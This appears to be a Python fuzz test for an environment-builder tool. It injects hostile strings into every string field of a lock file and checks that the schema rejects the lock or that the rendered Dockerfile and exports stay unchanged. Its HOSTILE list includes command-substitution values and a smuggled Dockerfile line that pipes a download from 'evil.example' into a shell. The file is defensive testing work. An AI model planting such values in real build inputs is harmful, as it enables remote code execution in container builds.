"""Every string field of a lock, fuzzed with newlines, quotes, backslashes, `$()` and `${}`: either the
schema rejects the lock (exit 2, naming the key), or the rendered Dockerfile parses (with BuildKit's
own parser, via the `dockerfile` package) to the same instructions as the unfuzzed one, and the build
context's requirements files and every export have the same entries.

The fields are enumerated from the lock model's type hints, not listed here, so a field added to
`envbuilder.lock.model` later is fuzzed too (and `test_the_base_lock_fills_every_string_field`
says to give it a value in BASE below).
"""

from __future__ import annotations

import copy
import dataclasses
from dataclasses import replace
import tomllib
import types
import typing
from io import StringIO
from pathlib import Path

import dockerfile
import pytest
import typing_extensions
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name
from pydantic.fields import FieldInfo
from ruamel.yaml import YAML

from envbuilder.build import context
from envbuilder.build.plan import make_plan
from envbuilder.build.render import dockerfile as render_dockerfile
from envbuilder.errors import BadInput
from envbuilder.lock import io
from envbuilder.export import export
from envbuilder.lock.model import (Artifact, BuildPackage, BuildRecipe, Facets, IndexSource, Lock, LockedPackage,
                                   Source)
from envbuilder.matrix import load_target
from tests.export.helpers import environment_for
from tests.support.dists import make_sdist, make_wheel

HOSTILE = ["\n", "\r\n", '"', "'", "\\", "\\\n", "$(id)", "${HOME}", "`id`", " #", "\nRUN curl evil.example | sh",
           '" \\\nRUN x="', "\x00", "\u2028", " ", "&&", ";", "|", "{{ x }}", "%", "*"]
STAR, KEY, VALUE = "*", "<key>", "<value>"
PINNED = "debian:bookworm-slim@sha256:" + "5" * 64
MATRIX = f"""schema: 1
target: demo
platform: {{os: linux, machine: x86_64, libc: glibc_2.36, python: "3.11"}}
toolchain: {{base_image: "{PINNED}", cuda: "12.8"}}
packages:
  alpha: "==1.0"
"""


# -- the fields, from the model ---------------------------------------------------------------------

def _toml_key(name: str, hint: object) -> str:
    for meta in getattr(hint, "__metadata__", ()):
        if isinstance(meta, FieldInfo) and meta.alias:
            return meta.alias
    return name


def _strip(hint: object) -> object:
    while typing.get_origin(hint) is typing.Annotated:
        hint = typing.get_args(hint)[0]
    return hint


def string_fields(hint: object, path: tuple = ()) -> list[tuple]:
    """Every path (TOML keys; STAR for an array index, KEY/VALUE for a table's keys and values) that
    holds a string, walking dataclasses, TypedDicts, tuples, dicts and unions."""
    hint = _strip(hint)
    origin = typing.get_origin(hint)
    if hint is str or (origin is typing.Literal and all(isinstance(a, str) for a in typing.get_args(hint))):
        return [path]
    if origin in (typing.Union, types.UnionType):
        return [p for arg in typing.get_args(hint) if arg is not type(None) for p in string_fields(arg, path)]
    if origin is tuple:
        return string_fields(typing.get_args(hint)[0], (*path, STAR))
    if origin is dict:
        key, value = typing.get_args(hint)
        return string_fields(key, (*path, KEY)) + string_fields(value, (*path, VALUE))
    if dataclasses.is_dataclass(hint):
        hints = typing.get_type_hints(hint, include_extras=True)
        return [p for f in dataclasses.fields(hint) for p in string_fields(hints[f.name], (*path, _toml_key(f.name, hints[f.name])))]
    if typing_extensions.is_typeddict(hint):
        hints = typing.get_type_hints(hint, include_extras=True)
        return [p for key, sub in hints.items() for p in string_fields(sub, (*path, key))]
    return []


FIELDS = string_fields(Lock)


def locations(data: object, path: tuple, at: tuple = ()) -> list[tuple]:
    """The concrete places in `data` that a field path names (a dict key is addressed as (KEY, name))."""
    if not path:
        return [at]
    head, rest = path[0], path[1:]
    if head == STAR and isinstance(data, list):
        return [loc for i, item in enumerate(data) for loc in locations(item, rest, (*at, i))]
    if head in (KEY, VALUE) and isinstance(data, dict):
        return [loc for k in data for loc in ([(*at, (KEY, k))] if head == KEY else locations(data[k], rest, (*at, k)))]
    if isinstance(data, dict) and head in data:
        return locations(data[head], rest, (*at, head))
    return []


def put(data: dict, loc: tuple, edit) -> None:
    """Apply `edit` (old -> new) to the string at `loc`, renaming the key for a (KEY, name) step."""
    *parents, last = loc
    for step in parents:
        data = data[step]
    if isinstance(last, tuple):
        old = last[1]
        data[edit(old)] = data.pop(old)
    else:
        data[last] = edit(data[last])


# -- the base lock: every string field set, built from real dists the index serves ------------------------

@pytest.fixture
def base(index_server, index_client, tmp_path: Path) -> tuple[dict, object, dict]:
    """The base lock's table, its target, and what it renders to (computed once per test)."""
    alpha = make_wheel("alpha", "1.0", requires_dist=["beta>=2"])
    beta = [make_wheel("beta", "2.0"), make_sdist("beta", "2.0")]
    gamma = make_sdist("gamma", "0.5")
    tool = make_wheel("tool", "3.0")
    for dist in (alpha, *beta, gamma, tool):
        index_server.add(dist)
    art = lambda d: Artifact(d.filename, d.sha256, d.size, "wheel" if d.filename.endswith(".whl") else "sdist")  # noqa: E731
    lock = Lock(
        target="demo", matrix_digest="sha256:" + "1" * 64, knowledge_digest="sha256:" + "2" * 64,
        environment=environment_for("3.11"),
        toolchain={"base-image": PINNED, "base-image-pinned": True, "runtime-image": PINNED, "cuda": "12.8",
                   "driver-min": "590.48.01", "gpu-arch": "sm_120", "gpu-count": 8, "source-date-epoch": 1700000000},
        indexes=("pypi",),
        packages=(
            LockedPackage("alpha", "1.0", Source(index="pypi"), (replace(art(alpha), linkage="sha256:" + "6" * 64),), ("beta>=2; python_version >= '3'",),
                          requested="==1.0", marker="python_version >= '3'", overridden=("x 1.0: alpha<1",),
                          metadata_from="backend", metadata_python="3.12",
                          facets=Facets(torch="2.9", cuda="12.8", cxx11_abi=True, python_abi="cp311",
                                        sass=("sm_120",), ptx=("compute_120",), evidence="wheel-name")),
            LockedPackage("beta", "2.0", Source(index="pypi"), tuple(art(d) for d in beta)),
            LockedPackage("gamma", "0.5", Source(index="pypi"), (art(gamma),), ("alpha==1.0",),
                          build=BuildRecipe({"DEMO_FLAG": "a b", "CMAKE_ARGS": "-DX=ON"}, "12.8", ("alpha==1.0",),
                                            "sha256:" + "3" * 64, ("tool==3.0",))),
            LockedPackage("engine", "0.5.9+g1", Source(git="https://example.invalid/engine.git", commit="d" * 40, tree="e" * 40,
                                                       subdirectory="python"),
                          build=BuildRecipe({"SETUPTOOLS_SCM_PRETEND_VERSION": "0.5.9+g1"}, None, (),
                                            "sha256:" + "4" * 64)),
        ),
        findings=("warning alpha [rule]: a note with a URL (https://example.invalid/1)",),
        build_packages=(BuildPackage("tool", "3.0", IndexSource("pypi"), (replace(art(tool), linkage="sha256:" + "7" * 64),)),),
    )
    (tmp_path / "matrices").mkdir()
    (tmp_path / "matrices" / "demo.yaml").write_text(MATRIX)
    target = load_target("demo", tmp_path)
    return lock.to_dict(), target, rendered(io.loads(io.dumps(lock)), target, index_client)


def shape(text: str) -> list[tuple]:
    """What BuildKit's parser makes of a Dockerfile: instruction, flags, and the words that decide
    structure (ENV/LABEL keys, FROM's stage, the number of values)."""
    out = []
    for command in dockerfile.parse_string(text):
        values = command.value
        keys = values[::2] if command.cmd in ("ENV", "LABEL") else values[1:] if command.cmd == "FROM" else ()
        out.append((command.cmd, command.flags, command.json, len(values), tuple(keys)))
    return out


def requirement_entries(text: str) -> list[tuple[str, int]]:
    """(name, number of --hash options) per logical line, comments dropped, continuations joined."""
    logical = text.replace("\\\n", " ").splitlines()
    out = []
    for line in logical:
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        head, *hashes = line.split("--hash=")
        out.append((canonicalize_name(Requirement(head.strip()).name), len(hashes)))
    return out


def rendered(lock: Lock, target, client) -> dict[str, object]:
    plan = make_plan(lock, target)
    files = {"venv.txt": context.venv_requirements(lock, "locks/demo.lock.toml")}
    for build in plan.builds:
        files.update(context.stage_files(build))
    yaml = YAML(typ="safe")
    return {
        "Dockerfile": shape(render_dockerfile(plan)),
        **{name: requirement_entries(data.decode()) for name, data in files.items() if name.endswith(".txt")},
        "requirements": requirement_entries(export(lock, "requirements")),
        "pylock": [(p["name"], p.get("version"), len(p.get("wheels", ())), "sdist" in p)
                   for p in tomllib.loads(export(lock, "pylock", client=client))["packages"]],
        "conda-lock": [(p["name"], p["manager"], p["version"])
                       for p in yaml.load(StringIO(export(lock, "conda-lock", client=client)))["package"]],
    }


def test_the_base_lock_fills_every_string_field(base):
    data, _target, _expected = base
    missing = [path for path in FIELDS if not locations(data, path)]
    assert not missing, f"give these lock fields a value in the fuzz test's base lock: {missing}"
    assert len(FIELDS) >= 29  # as of lock-version 1; fewer means the walk lost a branch
    io.loads(io.dumps(Lock.from_dict(data)), "base.lock.toml")  # the base itself is valid


@st.composite
def edits(draw: st.DrawFn, data: dict):
    path = draw(st.sampled_from(FIELDS))
    loc = draw(st.sampled_from(locations(data, path)))
    payload = draw(st.sampled_from(HOSTILE) | st.text(alphabet="\"'\\$(){}`#;|& \n\t", min_size=1, max_size=6))
    mode = draw(st.sampled_from(["append", "prepend", "middle", "replace"]))

    def edit(old: str) -> str:
        cut = len(old) // 2
        return {"append": old + payload, "prepend": payload + old, "middle": old[:cut] + payload + old[cut:],
                "replace": payload}[mode]
    return path, loc, edit


@settings(max_examples=400, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(st.data())
def test_a_fuzzed_field_is_rejected_or_renders_the_same(base, index_client, data):
    base_data, target, expected = base
    path, loc, edit = data.draw(edits(base_data))
    fuzzed = copy.deepcopy(base_data)
    put(fuzzed, loc, edit)
    text = io.dumps(Lock.from_dict(fuzzed))  # written as an attacker would, digest consistent
    try:
        lock = io.loads(text, "fuzzed.lock.toml")
    except io.BadLock as exc:
        assert exc.exit_code == 2 and exc.key and str(exc).startswith("fuzzed.lock.toml:"), str(exc)
        event("rejected by the schema")
        return
    try:
        out = rendered(lock, target, index_client)
    except BadInput as exc:  # refused by a renderer's quoting or a check with the matrix at hand
        assert exc.exit_code == 2, str(exc)
        event(f"refused by a renderer: {path[-1]}")
        return
    event(f"accepted: {path[-1]}")
    assert out == expected, (path, loc, repr(edit("<old>")))
